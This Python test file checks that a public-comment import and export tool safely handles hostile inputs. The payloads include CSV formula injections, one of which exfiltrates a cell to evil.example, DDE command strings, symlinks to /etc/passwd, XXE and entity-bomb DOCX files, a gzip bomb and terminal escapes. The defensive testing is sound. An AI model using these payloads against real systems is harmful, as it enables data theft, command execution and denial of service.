"""The hostile corpus: each hole a probe found (issue 12), rebuilt here by the test, and the safe outcome.

Every file, link and database below is made by the test in tmp_path (no real secrets; the
"outside" files are the test's own). docs/hostile_inputs.md lists every probe, old and new,
and which test keeps it closed. Property-based checks are in test_hostile_properties.py.
"""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
import textwrap
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from comments import records, store
from comments.cli import main
from comments.errors import InputError
from comments.export import export_docket
from comments.importers import mirrulations
from comments.importers.mirrulations import import_mirrulations
from comments.textutil import html_to_text

DOCKET = "HOST-2025-0009"
ESC = "\x1b"


def detail(n: int, text: str = "A plain comment.", docket: str = DOCKET, **attrs) -> dict:
    return {"data": {"id": f"{docket}-{n:04d}", "type": "comments", "attributes": {
        "docketId": docket, "comment": text, "postedDate": f"2025-03-{n % 28 + 1:02d}T12:00:00Z", **attrs}}}


def one_line_error(err: str) -> str:
    """The CLI's stderr must be exactly one `error: ...` line (no traceback)."""
    lines = err.strip("\n").split("\n")
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


# --------------------------------------------------------------------------- Mirrulations tree


def mirror(root: Path, docket: str = DOCKET) -> Path:
    """An empty Mirrulations layout for `docket` under root; returns its comments folder."""
    comments = root / "raw-data" / "HOST" / docket / f"text-{docket}" / "comments"
    comments.mkdir(parents=True)
    return comments


def write_record(path: Path, record: dict) -> None:
    path.write_text(json.dumps(record), encoding="utf-8")


def rejects(con) -> dict[str, str]:
    return dict(con.execute("select locator, reason from import_rejects where source = 'mirrulations'").fetchall())


def stored_ids(con) -> set[str]:
    return {r[0] for r in con.execute("select comment_id from comments").fetchall()}


# --------------------------------------------------------------------------- 1. symlinks, FIFOs, devices, size


def test_mirrulations_import_reads_nothing_outside_its_folder(tmp_path, monkeypatch):
    secret = "OUTSIDE-SECRET-7f3a"
    outside = tmp_path / "outside"
    outside.mkdir()
    write_record(outside / f"{DOCKET}-0002.json", detail(2, f"{secret} linked comment"))
    (outside / "secret.txt").write_text(f"{secret} linked attachment text", encoding="utf-8")
    other = mirror(outside / "elsewhere", "HOST-2025-0010")  # a whole docket folder, outside
    write_record(other / "HOST-2025-0010-0001.json", detail(1, f"{secret} linked docket", docket="HOST-2025-0010"))

    root = tmp_path / "mirror"
    comments = mirror(root)
    attachment = {"id": "att-1", "type": "attachments", "attributes": {"docOrder": 1, "fileFormats": [
        {"fileUrl": "https://downloads.regulations.gov/x/attachment_1.pdf", "format": "pdf", "size": 10}]}}
    write_record(comments / f"{DOCKET}-0001.json", {**detail(1, "The valid comment."), "included": [attachment]})
    (comments / f"{DOCKET}-0002.json").symlink_to(outside / f"{DOCKET}-0002.json")  # a record outside
    (comments / f"{DOCKET}-0003.json").symlink_to("/etc/passwd")
    (comments / f"{DOCKET}-0004.json").symlink_to("/dev/zero")  # was read until MemoryError
    os.mkfifo(comments / f"{DOCKET}-0005.json")  # would block a plain open() forever
    inside = root / "kept-elsewhere-inside"
    inside.mkdir()
    write_record(inside / "r.json", detail(6, "A comment linked from inside the folder."))
    (comments / f"{DOCKET}-0006.json").symlink_to(inside / "r.json")  # inside the root: followed
    write_record(comments / f"{DOCKET}-0007.json", detail(7, "x" * 5000))  # over the (lowered) cap
    (comments / f"{DOCKET}-0008.json").symlink_to(comments / f"{DOCKET}-0008.json")  # a loop
    (root / "raw-data" / "HOST" / "HOST-2025-0010").symlink_to(other.parent.parent)  # a docket linked in
    extracted = root / "derived-data" / "HOST" / DOCKET / "mirrulations" / "extracted_txt"
    extracted.mkdir(parents=True)
    (extracted / f"{DOCKET}-0001_attachment_1_extracted.txt").symlink_to(outside / "secret.txt")
    monkeypatch.setattr(mirrulations, "MAX_FILE_BYTES", 4096)

    con = store.connect(tmp_path / "m.duckdb")
    report = import_mirrulations(con, root)

    assert stored_ids(con) == {f"{DOCKET}-0001", f"{DOCKET}-0006"}
    got = rejects(con)
    outside_reason = "a link to a place outside the import folder (not followed)"
    assert got == {
        f"{DOCKET}-0002.json": outside_reason,
        f"{DOCKET}-0003.json": outside_reason,
        f"{DOCKET}-0004.json": outside_reason,
        f"{DOCKET}-0005.json": "not a regular file (a FIFO, device or socket is never read)",
        f"{DOCKET}-0007.json": got[f"{DOCKET}-0007.json"],
        f"{DOCKET}-0008.json": "a link that loops (not followed)",
        "text-HOST-2025-0010": outside_reason,
        f"{DOCKET}-0001_attachment_1_extracted.txt": outside_reason,
    }
    assert got[f"{DOCKET}-0007.json"].startswith("larger than the 4,096-byte cap")
    assert report.skipped_total == len(got)
    # Not one byte from outside reached the database, in any table.
    for table in ("comments", "attachments", "dockets", "documents", "import_rejects"):
        dump = con.execute(f"select string_agg(t::varchar, ' ') from {table} t").fetchone()[0] or ""
        assert secret not in dump and "root:x:0" not in dump, table
    assert con.execute("select text from attachments where comment_id = ?", [f"{DOCKET}-0001"]).fetchone() == (None,)
    con.close()


# --------------------------------------------------------------------------- 9. nesting, odd values


def test_a_bad_mirrulations_file_is_one_reject_and_its_neighbour_is_imported(tmp_path):
    root = tmp_path / "mirror"
    comments = mirror(root)
    write_record(comments / f"{DOCKET}-0001.json", detail(1, "The valid comment beside them."))
    depth = 100_000
    head = '{"data": {"id": "' + DOCKET
    (comments / f"{DOCKET}-0002.json").write_text(
        head + '-0002", "attributes": {"x": ' + "[" * depth + "]" * depth + "}}}", encoding="utf-8")
    (comments / f"{DOCKET}-0003.json").write_text(
        head + '-0003", "attributes": {"duplicateComments": ' + "9" * 5000 + "}}}", encoding="utf-8")
    write_record(comments / f"{DOCKET}-0004.json", detail(4, ["the comment", "as a list"]))
    write_record(comments / f"{DOCKET}-0005.json", {**detail(5), "included": ["not an object"]})
    moderately_deep = {"a": None}
    for _ in range(200):  # parses, but deeper than any real record
        moderately_deep = {"a": moderately_deep}
    write_record(comments / f"{DOCKET}-0006.json", detail(6, "deep", extra=moderately_deep))

    con = store.connect(tmp_path / "m.duckdb")
    report = import_mirrulations(con, root)  # one batch holds all six files

    assert stored_ids(con) == {f"{DOCKET}-0001"}
    got = rejects(con)
    assert got[f"{DOCKET}-0002.json"] == "not usable JSON: nested too deeply"
    assert got[f"{DOCKET}-0003.json"].startswith("not usable JSON: Exceeds the limit")
    assert got[f"{DOCKET}-0004.json"].startswith("not a usable record")
    assert got[f"{DOCKET}-0005.json"].startswith("not a usable record")
    assert got[f"{DOCKET}-0006.json"] == "not usable JSON: nested more than 64 levels deep"
    assert (report.new, report.skipped_total, report.rows_read) == (1, 5, 6)
    con.close()


# --------------------------------------------------------------------------- 8. stray '<', NUL


# Shaped like the real comment the probe found (1,606 characters, 1,069 of them between '<' and '>').
OPT_COMMENT = (
    "I oppose the proposed rule. International students bring skills and tuition to our universities, "
    "and OPT lets them put their training to work here. Please do not go ahead with this change. "
    "<General Facts About The Optional Practical Training Program (OPT): OPT lets F-1 students work for "
    "up to 12 months in their field after graduation, and STEM graduates may extend it by 24 months. "
    "Employers must use E-Verify and give a training plan for the STEM extension. Students pay tuition "
    "at out-of-state rates, rent housing, buy cars and pay taxes on their wages. Studies estimate that "
    "international students add more than $30 billion to the economy each year, and that OPT alone "
    "brings $1 billion dollars a year.>\n"
    "Thank you for reading."
)


def test_prose_between_angle_brackets_is_kept_and_nul_is_dropped():
    text = html_to_text(OPT_COMMENT)
    assert "<General Facts About The Optional Practical Training Program (OPT):" in text
    assert "$1 billion dollars a year.>" in text
    assert text.split() == OPT_COMMENT.split()  # every word, in order
    # Real markup around it still goes, entities are decoded once.
    assert html_to_text("<p>Before &amp; <b>bold</b></p><br/><I think this is wrong> <Name>") == \
        "Before & bold\n\n<I think this is wrong> <Name>"
    assert html_to_text('<span style="font-family: Arial">x</span><o:p></o:p>') == "x"
    # Through the save path: the stored text has every character but the NUL.
    row = records.comment_row(detail(1, "Null\x00 byte <here> and\x00 there"))
    assert row["text"] == "Null byte <here> and there"


# --------------------------------------------------------------------------- 2. CSV formulas


def test_csv_export_neutralizes_formulas_and_keeps_numbers_and_other_formats_exact(tmp_path):
    db = tmp_path / "x.duckdb"
    payloads = {
        1: "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
        2: "+cmd|' /C calc'!A0",
        3: "-2+3+cmd|' /C calc'!A0",
        4: "@SUM(1+1)*cmd|' /C calc'!A0",
        5: "\t=1+1",
        6: "\r=1+1",
    }
    con = store.connect(db)
    records.save_comments(con, [
        detail(n, text, organization=text, firstName=text, lastName="Doe", duplicateComments=-3 if n == 1 else 2)
        for n, text in payloads.items()
    ] + [detail(7, "A normal comment, with a comma.", organization="Acme, Inc.")])
    export_docket(con, DOCKET, "csv", tmp_path / "out.csv", include_names=True)
    export_docket(con, DOCKET, "parquet", tmp_path / "out.parquet", include_names=True)
    export_docket(con, DOCKET, "jsonl", tmp_path / "out.jsonl", include_names=True)
    con.close()

    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
        rows = {r["comment_id"]: r for r in csv.DictReader(fh)}
    for n, text in payloads.items():
        row = rows[f"{DOCKET}-{n:04d}"]
        stored = html_to_text(text)  # what the comment box holds (tabs and CRs tidied)
        for column, value in (("effective_text", stored), ("organization", text.strip()), ("first_name", text.strip())):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
            expected = "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
            assert row[column] == expected, column
    normal = rows[f"{DOCKET}-0007"]
    assert (normal["organization"], normal["effective_text"]) == ("Acme, Inc.", "A normal comment, with a comma.")
    # A negative number stays a number; so do the other numeric columns.
    assert rows[f"{DOCKET}-0001"]["duplicate_comments"] == "-3"
    assert rows[f"{DOCKET}-0001"]["submissions_represented"] == "-2"

    exact = {r["comment_id"]: r for r in pq.read_table(tmp_path / "out.parquet").to_pylist()}
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    for n, text in payloads.items():
        cid = f"{DOCKET}-{n:04d}"
        assert exact[cid]["organization"] == text.strip()
        assert next(r for r in lines if r["comment_id"] == cid)["organization"] == text.strip()
    assert exact[f"{DOCKET}-0001"]["duplicate_comments"] == -3


# --------------------------------------------------------------------------- 3. terminal escapes


def test_nothing_printed_to_a_terminal_carries_control_characters(tmp_path, capsys):
    db = tmp_path / "t.duckdb"
    con = store.connect(db)
    evil = f"{ESC}[31mRED{ESC}[0m {ESC}]0;owned\x07 \x9b2J shifted\u202eevil"
    records.save_comments(con, [detail(1, f"Pipeline sharing worries me {evil}", title=f"Title {evil}")])
    records.save_docket(con, {"data": {"id": DOCKET, "type": "dockets", "attributes": {"title": f"Docket {evil}"}}})
    con.execute(
        "insert into sync_runs (run_id, docket_id, started_at, finished_at, status, message) values ('r1', ?, now(), now(), 'partial', ?)",
        [DOCKET, f"server said {evil}"],
    )
    con.close()

    def run(*argv) -> tuple[int, str, str]:
        code = main(list(argv))
        out, err = capsys.readouterr()
        return code, out, err

    outputs = [
        run("search", DOCKET, "pipeline", "--db", str(db)),
        run("search", DOCKET, "nothing-matches-this " + evil, "--db", str(db)),
        run("status", DOCKET, "--db", str(db)),
        run("import", "mirrulations", str(tmp_path / f"no-such{evil}"), "--db", str(db)),
    ]
    code, out, err = outputs[0]
    assert code == 0 and "RED" in out and "owned" in out
    assert "RED" in outputs[2][1] and "server said" in outputs[2][1]
    assert outputs[3][0] == 2 and "no-such" in one_line_error(outputs[3][2])
    for _, out, err in outputs:
        for ch in (ESC, "\x07", "\x9b", "\u202e"):
            assert ch not in out and ch not in err
    # The project's log lines (a server's error text inside a warning) are cleaned the same way.
    import logging

    logging.getLogger("comments.discover").warning("comment count failed for %s: %s", "x", f"HTTP 500 {evil}")
    err = capsys.readouterr().err
    assert "HTTP 500" in err and "RED" in err
    assert not any(ch in err for ch in (ESC, "\x07", "\x9b", "\u202e"))
    # JSON output keeps the data exact: the escapes are JSON escapes, decoded back by any reader.
    code, out, _ = run("search", DOCKET, "pipeline", "--db", str(db), "--output", "json")
    assert code == 0 and ESC not in out and "\x9b" not in out and "\u202e" not in out
    assert json.loads(out.splitlines()[0])["title"] == f"Title {evil}"


# --------------------------------------------------------------------------- 4. non-DuckDB files, extensions


def test_a_sqlite_file_as_db_is_refused_in_one_line_and_extensions_never_autoload(tmp_path, capsys):
    lite = tmp_path / "comments.sqlite"
    with sqlite3.connect(lite) as c:
        c.execute("create table comments (comment_id text)")
    before = lite.read_bytes()
    for argv in (["status", "--db", str(lite)], ["search", DOCKET, "x", "--db", str(lite)],
                 ["analyze", DOCKET, "--db", str(lite)], ["export", DOCKET, "-f", "csv", "--out", str(tmp_path / "o.csv"), "--db", str(lite)]):
        assert main(argv) == 2
        assert one_line_error(capsys.readouterr().err) == f"error: {lite} is not a DuckDB database"
    assert lite.read_bytes() == before
    (tmp_path / "empty.duckdb").write_bytes(b"")
    with pytest.raises(InputError, match="is not a DuckDB database"):
        store.connect(tmp_path / "empty.duckdb")

    db = tmp_path / "real.duckdb"
    for read_only in (False, True):
        con = store.connect(db, read_only=read_only)
        settings = con.execute(
            "select current_setting('autoinstall_known_extensions'), current_setting('autoload_known_extensions')"
        ).fetchone()
        assert settings == (False, False)
        # A query needing a non-built-in extension fails at once instead of downloading it.
        with pytest.raises(duckdb.Error, match="excel"):
            con.execute("select * from read_xlsx('x.xlsx')")
        con.close()


# --------------------------------------------------------------------------- 11. settings, ids, folders


@pytest.mark.parametrize(("name", "value"), [
    ("REGULATIONS_GOV_RATE_LIMIT", "nan"),
    ("REGULATIONS_GOV_RATE_LIMIT", "inf"),
    ("REGULATIONS_GOV_RATE_LIMIT", "1e400"),
    ("REGULATIONS_GOV_RATE_LIMIT", "-5"),
    ("COMMENTS_ATTACHMENT_MAX_BYTES", "abc"),
    ("COMMENTS_ATTACHMENT_MAX_BYTES", "0"),
    ("COMMENTS_SYNC_CONCURRENCY", "0"),
    ("COMMENTS_SYNC_CONCURRENCY", "٨"),
    ("COMMENTS_ATTACHMENT_HOSTS", "https://downloads.regulations.gov/"),
    ("REGULATIONS_GOV_BASE_URL", "api.regulations.gov/v4"),
    ("REGULATIONS_GOV_API_KEY", "good-key,bad\u2019key"),
])
def test_every_setting_is_checked_before_any_command_runs(tmp_path, monkeypatch, capsys, name, value):
    monkeypatch.setenv(name, value)
    db = tmp_path / "never-created.duckdb"
    for argv in (["sync", "CMS-2022-0163", "--db", str(db)], ["analyze", "CMS-2022-0163", "--db", str(db)],
                 ["import", "mirrulations", str(tmp_path), "--db", str(db)], ["status", "--db", str(db)]):
        assert main(argv) == 2
        line = one_line_error(capsys.readouterr().err)
        assert name in line
        assert "bad\u2019key" not in line  # a key is never shown, even a malformed one
    assert not db.exists()  # nothing ran
    assert main(["sync", "--help"]) == 0  # help still shows


def test_a_docket_id_with_non_ascii_digits_is_refused_before_any_request(replay, api_env, tmp_path, capsys):
    server = api_env(replay())
    for raw in ("ICEB-2015-\u0660\u0660\u0660\u0662", "CMS-\uff12\uff10\uff12\uff12-0163", "CMS-2022-0163\u00b2"):
        assert main(["sync", raw, "--db", str(tmp_path / "d.duckdb")]) == 2
        assert "is not a regulations.gov docket id" in one_line_error(capsys.readouterr().err)
    assert server.stats.total == 0
    watchlist = tmp_path / "w.toml"
    watchlist.write_text('[[docket]]\nid = "ICEB-2015-\u0660\u0660\u0660\u0662"\n', encoding="utf-8")
    from comments.watchlist import load_watchlist

    with pytest.raises(InputError, match="needs an id like"):
        load_watchlist(watchlist)


@pytest.fixture
def make_unwritable():
    """`make_unwritable(folder)`: no file can be created in it any more (chmod; chattr +i as root)."""
    done: list[tuple[Path, bool]] = []

    def lock(folder: Path) -> None:
        folder.chmod(0o555)
        probe = folder / ".probe"
        try:
            probe.touch()
        except PermissionError:
            done.append((folder, False))
            return
        probe.unlink()  # root ignores modes: make the folder immutable instead
        folder.chmod(0o755)
        if subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
            pytest.skip("cannot make a folder unwritable here (root, and no chattr on this file system)")
        done.append((folder, True))

    yield lock
    for folder, immutable in done:
        if immutable:
            subprocess.run(["chattr", "-i", str(folder)], check=True)
        folder.chmod(0o755)


def test_a_database_in_a_read_only_folder_is_one_line_not_a_traceback(tmp_path, capsys, make_unwritable):
    db = tmp_path / "ro" / "c.duckdb"
    db.parent.mkdir()
    con = store.connect(db)
    records.save_comments(con, [detail(1, "Stored before the folder became read-only.")])
    con.close()
    make_unwritable(db.parent)

    assert main(["search", DOCKET, "stored", "--db", str(db)]) == 2
    line = one_line_error(capsys.readouterr().err)
    # search only reads the database, but its index lives beside it
    assert line.startswith(f"error: cannot write the search index in {db.parent}") and "make that folder writable" in line
    assert main(["analyze", DOCKET, "--db", str(db)]) == 2  # a writer needs the journal beside the file
    line = one_line_error(capsys.readouterr().err)
    assert line.startswith(f"error: cannot write to database {db}") and "make that folder writable" in line
    assert main(["status", DOCKET, "--db", str(db)]) == 0  # reading needs no journal
    assert "comments      1" in capsys.readouterr().out


# --------------------------------------------------------------------------- 12. a killed analyze


KILL_DURING_ANALYZE = textwrap.dedent("""
    import os, signal, sys
    from comments import store
    from comments.analysis.pipeline import analyze_docket

    def progress(advance=1, total=None):
        if total is None:  # the first step is done: die as `kill -9` would
            os.kill(os.getpid(), signal.SIGKILL)

    analyze_docket(store.connect(sys.argv[1]), sys.argv[2], progress=progress)
""")


def test_a_killed_analyze_is_reported_interrupted_and_recorded_by_the_next(tmp_path, capsys):
    from comments.analysis.pipeline import INTERRUPTED, analyze_docket

    db = tmp_path / "a.duckdb"
    con = store.connect(db)
    records.save_comments(con, [detail(n, f"Comment number {n} says the rule should stop data sharing {n % 3}.")
                                for n in range(1, 13)])
    con.close()
    proc = subprocess.run([sys.executable, "-c", KILL_DURING_ANALYZE, str(db), DOCKET], capture_output=True, timeout=120)
    assert proc.returncode == -9, proc.stderr.decode()[-2000:]
    con = store.connect(db, read_only=True)
    killed = con.execute("select run_id, status from analysis_runs").fetchall()
    con.close()
    assert [s for _, s in killed] == ["running"]  # what a killed process leaves behind

    assert main(["status", DOCKET, "--db", str(db)]) == 0
    out = capsys.readouterr().out
    analysis_line = next(line for line in out.splitlines() if "last analysis" in line)
    assert "running" not in analysis_line and INTERRUPTED in analysis_line

    con = store.connect(db)
    analyze_docket(con, DOCKET)
    runs = {r[0]: r[1:] for r in con.execute("select run_id, status, message from analysis_runs").fetchall()}
    con.close()
    assert runs.pop(killed[0][0]) == ("failed", INTERRUPTED)
    assert [status for status, _ in runs.values()] == ["complete"]


def test_status_does_not_call_a_dead_sync_running(tmp_path, capsys):
    db = tmp_path / "s.duckdb"
    con = store.connect(db)
    records.save_comments(con, [detail(1)])
    con.execute("insert into sync_runs (run_id, docket_id, started_at, status) values ('r', ?, now(), 'running')", [DOCKET])
    con.close()
    assert main(["status", DOCKET, "--db", str(db)]) == 0
    sync_line = next(line for line in capsys.readouterr().out.splitlines() if "last sync" in line)
    assert "running" not in sync_line and "interrupted" in sync_line



# --------------------------------------------------------------------------- probes that held, without a test until now


def _docx_with(document_xml_edit) -> bytes:
    """A real DOCX (python-docx) whose word/document.xml is rewritten by `document_xml_edit`."""
    import io
    import zipfile

    from test_attachments import docx_bytes

    src = zipfile.ZipFile(io.BytesIO(docx_bytes(["Innocent letter."])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml":
                head, body = data.decode("utf-8").split("?>", 1)
                doctype, body = document_xml_edit(body)
                data = f"{head}?><!DOCTYPE w:document [{doctype}]>{body}".encode()
            z.writestr(item, data)
    return out.getvalue()


def test_docx_external_entities_and_entity_bombs_read_nothing_else(tmp_path):
    from comments.attachments.extract import extract_file

    secret = tmp_path / "secret.txt"
    secret.write_text("XXE-SECRET-91", encoding="utf-8")
    xxe = tmp_path / "xxe.docx"
    xxe.write_bytes(_docx_with(lambda body: (
        f'<!ENTITY xxe SYSTEM "file://{secret}">', body.replace("Innocent letter.", "Innocent letter. &xxe;"))))
    got = extract_file(str(xxe), "docx")
    assert got["status"] == "ok" and "Innocent letter." in got["text"] and "XXE-SECRET" not in got["text"]

    levels = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    laughs = tmp_path / "laughs.docx"  # 10^9 'lol's if expanded
    laughs.write_bytes(_docx_with(lambda body: (levels, body.replace("Innocent letter.", "&lol9;"))))
    got = extract_file(str(laughs), "docx")
    assert got["status"] == "failed" and "amplification" in got["reason"]


def test_a_gzip_bomb_download_stops_at_the_size_cap(tmp_path):
    import gzip
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from test_attachments import detail as attachment_detail

    from comments.attachments import files_dir_for, process_attachments

    bomb = gzip.compress(b"\0" * (50 * 1024 * 1024), compresslevel=9)  # 50 MB in about 50 kB

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/pdf")
            self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(bomb)))
            self.end_headers()
            self.wfile.write(bomb)

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{httpd.server_address[1]}/bomb.pdf"
        con = store.connect(tmp_path / "c.duckdb")
        records.save_comments(con, [attachment_detail("B-1", "See attached", [{"url": url, "format": "pdf"}],
                                                      docket=DOCKET)])
        process_attachments(con, DOCKET, files_dir=files_dir_for(tmp_path / "c.duckdb"), hosts=("127.0.0.1",),
                            max_bytes=1_000_000, workers=1, pace_s=0, backoff_base=0.001)
        status, reason = con.execute("select status, reason from attachments where comment_id = 'B-1'").fetchone()
        con.close()
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert status == "too_large" and "1,000,000-byte cap" in reason  # counted after decompression
    stored = [p for p in files_dir_for(tmp_path / "c.duckdb").rglob("*") if p.is_file()]
    assert stored == []
